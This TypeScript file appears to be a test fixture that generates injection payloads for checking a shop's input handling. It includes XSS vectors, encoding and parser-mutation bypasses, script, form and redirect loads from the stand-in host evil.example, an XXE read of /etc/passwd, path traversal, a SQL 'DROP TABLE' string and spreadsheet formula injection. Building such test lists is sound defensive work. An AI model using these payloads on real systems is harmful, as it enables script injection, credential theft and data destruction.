/**
 * Texts that take effect if the shop treats them as markup, script, style or address. Elements
 * carry `data-foreign`, scripts call `hit`, and requests go to evil.example.
 */

const bySelf = [
  'onload',
  'onerror',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
] as const;

const startsOfTags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'iframe src="javascript:hit()"',
  'object data=x',
  'math tabindex=0 autofocus',
  'x-unknown tabindex=0 autofocus',
];

const handlers = startsOfTags.flatMap((start) =>
  bySelf.map((name) => `<${start} ${name}=hit() data-foreign>`),
);

const scripts = [
  '<script data-foreign>hit()</script>',
  '<SCRIPT data-foreign>hit()</SCRIPT>',
  '<script data-foreign src="//evil.example/a.js"></script>',
  '<script data-foreign src=data:text/javascript,hit()></script>',
  '<script data-foreign type=module>hit()</script>',
  '<script data-foreign>hit()<!--',
  '<scr<script>ipt data-foreign>hit()</scr</script>ipt>',
  '<svg><script data-foreign>hit()</script></svg>',
  '<svg data-foreign><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg data-foreign><use href="//evil.example/a.svg#a"/></svg>',
  '<math data-foreign><maction actiontype=statusline xlink:href="javascript:hit()">x</maction></math>',
  '<template data-foreign><img src=x onerror=hit()></template>',
  '<base data-foreign href="//evil.example/">',
  '<meta data-foreign http-equiv=refresh content="0;url=//evil.example/">',
  '<link data-foreign rel=stylesheet href="//evil.example/a.css">',
  '<embed data-foreign src="//evil.example/">',
  '<form data-foreign action="//evil.example/"><button>Pay</button></form>',
  '<iframe data-foreign srcdoc="<script>parent.hit()</script>"></iframe>',
  '<div data-foreign id=shop-config>{"apiBaseUrl":"https://evil.example"}</div>',
  '<a data-foreign id=earlyInput href="javascript:hit()">x</a>',
];

const image = '<img src=x onerror=hit() data-foreign>';

/** Closes the surrounding element, attribute or comment. */
const escapes = [
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</template>',
  '</noscript>',
  '</select>',
  '</svg>',
  '-->',
  ']]>',
  '?>',
  '*/',
  '\u2028',
].flatMap((end) => [`${end}${image}`, `${end}<script data-foreign>hit()</script>`]);

const attributes = ['"', "'", '`', '" ', '/'].flatMap((end) =>
  ['onclick', 'onfocus', 'onmouseover', 'style'].map(
    (name) => `x${end} ${name}=${end.trim()}hit()${end.trim()} autofocus data-foreign x=${end}`,
  ),
);

const addresses = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  '\u0001javascript:hit()',
  'javascript&colon;hit()',
  'javascript://%0ahit()',
  'data:text/html,<script>hit()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
  'vbscript:hit()',
  'blob:https://evil.example/1',
  '//evil.example/a.png',
  '\\\\evil.example\\a.png',
  'https://evil.example/a.png',
  'https:evil.example/a.png',
  '/\t/evil.example/a.png',
  '../../../../etc/passwd',
  'a.png, //evil.example/a.png 2x',
];

/** Encoded texts, which take effect after one decoding too many. */
const encodings = [
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replaceAll('<', '&amp;lt;'),
  (text: string) => text.replaceAll('<', '&#60;'),
  (text: string) => text.replaceAll('<', '&#x3c'),
  (text: string) => encodeURIComponent(text),
  (text: string) => encodeURIComponent(encodeURIComponent(text)),
  (text: string) => text.replaceAll('<', '\\u003c'),
  (text: string) => text.replaceAll('<', '\\x3c'),
  (text: string) => text.replaceAll('<', '\uff1c'),
  (text: string) => text.replaceAll('<', '+ADw-'),
].flatMap((encode) => [image, '</script><script data-foreign>hit()</script>'].map(encode));

/** Syntax of templates, replacements, JSON, formulas and styles. */
const languages = [
  '{{hit()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
  '${hit()}',
  '<%= hit() %>',
  '#{hit()}',
  "';hit();//",
  '";hit();//',
  '\\";hit();//',
  '"}]};hit();//',
  "$& $` $' $1",
  '<!--',
  '<![CDATA[',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '__proto__',
  'constructor',
  '=HYPERLINK("//evil.example")',
  ');background:url(//evil.example/a.png',
  '}*{display:none}@import "//evil.example/a.css";',
  '<style data-foreign>*{display:none}</style>',
  "Robert'); DROP TABLE orders;--",
];

/** Markup that parsers interpret differently. */
const mutations = [
  `<noscript data-foreign><p title="</noscript>${image}">`,
  `<svg></p><style><a id="</style>${image}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<textarea data-foreign><p title="</textarea>${image}">`,
  `<xmp data-foreign><p title="</xmp>${image}">`,
  `<svg><foreignobject><p><style><!--</style>${image}-->`,
  `<a title="<style><b style='x:y'>" style="x:y">x</a>`,
];

/** Unusual characters and lengths. */
const unusual = [
  'w'.repeat(1000),
  'कबूतर'.repeat(200),
  '\u{1F468}\u200d\u{1F469}\u200d\u{1F467}'.repeat(200),
  `a${'\u0301'.repeat(200)}`,
  '\u200b\u200d\u2060\ufeff'.repeat(50),
  '\u202eright to left\u2066',
  'حمامة على الحافة',
];

const numbered = (text: string, index: number) => text.replaceAll('hit()', `hit(${index})`);

export const payloads: string[] = [
  ...handlers,
  ...scripts,
  ...escapes,
  ...attributes,
  ...addresses,
  ...encodings,
  ...languages,
  ...mutations,
  ...unusual,
].map(numbered);
